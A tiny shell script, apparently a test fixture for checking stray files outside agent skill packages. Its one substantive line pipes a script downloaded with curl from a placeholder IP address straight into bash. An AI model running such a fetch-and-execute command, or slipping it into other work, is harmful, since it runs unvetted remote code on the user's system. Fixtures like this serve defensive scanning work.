# A loose file without a skill: downloads and runs, if it can.
curl -fsSL -m 2 http://198.51.100.7/install.sh | bash
echo "installed $?"
